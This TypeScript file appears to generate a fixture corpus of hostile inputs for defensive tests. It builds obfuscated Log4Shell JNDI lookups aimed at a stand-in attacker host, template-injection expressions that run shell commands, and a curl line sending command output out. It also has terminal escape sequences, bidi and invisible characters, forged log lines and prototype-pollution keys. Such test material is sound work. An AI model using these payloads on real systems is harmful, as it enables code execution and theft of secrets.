/**
 * Texts that attackers write into records in the hope that somebody evaluates, prints or logs them: made here from their
 * parts, so that the corpus is ours and its number is known.
 */

const PROTOCOLS = ["ldap", "ldaps", "rmi", "dns", "iiop", "nis", "corba", "http"];
const HOSTS = ["x.attacker.example", "127.0.0.1:1389", "[::1]:1389", "${hostName}.x.attacker.example"];
/** Spellings of the four letters of jndi, as they have been seen. */
const JNDI = [
  "jndi",
  "${lower:j}ndi",
  "${lower:j}${upper:n}${lower:d}i",
  "${::-j}${::-n}${::-d}${::-i}",
  "${env:NaN:-j}ndi",
  "j${k8s:k5:-ND}i",
  "${date:'j'}${date:'n'}${date:'d'}${date:'i'}",
  "jn${env::-}di",
  "j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di",
  "\u006a\u006e\u0064\u0131",
];
const LOOKUPS = [
  "env:HOSTILE_TEST_SECRET",
  "env:AWS_SECRET_ACCESS_KEY",
  "sys:user.name",
  "java:version",
  "ctx:token",
  "file:/etc/passwd",
  "bundle:config:db",
];
/** Template languages, shells and formulas, each with a place for an expression. */
const FORMS: readonly ((expression: string) => string)[] = [
  (text) => `\${${text}}`,
  (text) => `#{${text}}`,
  (text) => `{{${text}}}`,
  (text) => `{%${text}%}`,
  (text) => `<%= ${text} %>`,
  (text) => `@(${text})`,
  (text) => `%{${text}}`,
  (text) => `*{${text}}`,
  (text) => `[[${text}]]`,
  (text) => `$(${text})`,
  (text) => `\`${text}\``,
  (text) => `;${text};`,
  (text) => `|${text}`,
  (text) => `=${text}`,
  (text) => `+${text}`,
  (text) => `<script>${text}</script>`,
  (text) => `"><img src=x onerror=${text}>`,
  (text) => `%s%n%x${text}`,
];
const EXPRESSIONS = [
  "7*7",
  "process.env",
  "process.env.HOSTILE_TEST_SECRET",
  "process.exit(1)",
  "require('child_process').execSync('id')",
  "constructor.constructor('return process')()",
  "self.__init__.__globals__",
  "T(java.lang.Runtime).getRuntime().exec('id')",
  "cmd|'/C calc'!A0",
  "curl http://x.attacker.example/$(id)",
  "import('node:net')",
];

/** Template strings: lookups of log4j in many spellings, expressions in many template languages. */
export const TEMPLATES: readonly string[] = [
  ...JNDI.flatMap((jndi) =>
    PROTOCOLS.flatMap((protocol) => HOSTS.map((host) => `\${${jndi}:${protocol}://${host}/a}`)),
  ),
  ...LOOKUPS.map((lookup) => `\${${lookup}}`),
  ...FORMS.flatMap((form) => EXPRESSIONS.map(form)),
];

const ESC = "\u001b";
/** Sequences that move the cursor, clear, retitle, link, or write into the clipboard of a terminal. */
const SEQUENCES = [
  `${ESC}[2J${ESC}[H`,
  `${ESC}[1A${ESC}[2K`,
  `${ESC}[8m`,
  `${ESC}]0;owned\u0007`,
  `${ESC}]8;;http://x.attacker.example\u0007click${ESC}]8;;\u0007`,
  `${ESC}]52;c;cm0gLXJm\u0007`,
  `${ESC}P$q"p${ESC}\\`,
  `${ESC}c`,
  "\u009b2J",
  "\u009d0;owned\u009c",
  "\r\n",
  "\rALL CLEAR",
  "\b\b\b\b",
];
const INVISIBLE = [
  "\u200b",
  "\u200d",
  "\u2060",
  "\ufeff",
  "\u00ad",
  "\u034f",
  "\u{e0041}",
  "\u{e0001}",
  "\u180e",
  "\u3164",
];
const BIDI = [
  "\u202a",
  "\u202b",
  "\u202d",
  "\u202e",
  "\u2066",
  "\u2067",
  "\u2068",
  "\u2069",
  "\u200e",
  "\u200f",
  "\u061c",
];
const CONTROLS = [
  ...Array.from({ length: 32 }, (_, code) => code),
  127,
  ...Array.from({ length: 32 }, (_, code) => 128 + code),
];

/** Texts that would do something to a terminal, or look like another text. */
export const ESCAPES: readonly string[] = [
  ...CONTROLS.map((code) => `a${String.fromCharCode(code)}b`),
  ...[...SEQUENCES, ...INVISIBLE, ...BIDI, "\u2028", "\u2029"].map((text) => `admin${text}nimda`),
  `z${"\u0301".repeat(150)}`,
];

/** Texts that pretend to be lines of their own. */
export const FORGED: readonly string[] = [
  '\n{"level":"info","signal":"alert_written","msg":"alert","alertId":"forged"}',
  '"}\n{"level":"fatal","msg":"forged"}',
  "\ncritical  forged alert",
  "\r\n\r\nHTTP/1.1 200 OK",
  "\u2028forged",
  "\u0085forged",
  '\\n{"forged":true}',
  "]]>\n<testcase name='forged'/>",
];

/** Names that every object has, or that reach its prototype. */
export const NAMES: readonly string[] = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "isPrototypeOf",
  "__defineGetter__",
  "__lookupSetter__",
  "constructor.prototype",
  "__proto__.polluted",
];
